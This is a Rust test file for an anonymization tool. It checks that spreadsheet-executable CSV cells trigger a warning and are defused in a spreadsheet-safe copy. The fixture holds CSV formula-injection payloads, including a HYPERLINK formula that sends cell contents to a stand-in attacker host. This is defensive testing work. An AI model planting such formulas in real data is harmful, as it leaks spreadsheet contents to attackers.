//! The attacker put a formula into the data, and waits for a reader to open the release in a spreadsheet.

use crate::program::Desk;
use crate::published::Published;

const FORMULA: &str = "=HYPERLINK(\"\"http://evil.example/\"\"&A1)";

#[test]
fn cells_that_a_spreadsheet_would_run_are_warned_about_and_defused_in_a_copy() {
    let desk = Desk::new();
    let rows: String =
        (0..6).map(|person| format!("p{person},\"{FORMULA}\"\np{person},+SUM(A1)\n")).collect();
    desk.write("trips.csv", &format!("subject,item\n{rows}"));
    let run = "anonymize trips.csv --method bf-p2ka -k 2";
    let ran = desk.ok(&format!("{run} -o exact"));
    assert!(ran.stderr.contains("spreadsheet"), "{}", ran.stderr);
    let exact = Published::of(&desk, "exact").text("release.csv");
    assert!(exact.contains(&format!(",\"{FORMULA}\"")), "the release stays exact: {exact}");
    desk.ok(&format!("{run} --spreadsheet-safe -o safe"));
    let defused = Published::of(&desk, "safe").text("release.spreadsheet.csv");
    for row in defused.lines().skip(1) {
        let cell = row.split_once(',').unwrap().1.trim_start_matches('"');
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t']), "{row}");
    }
}
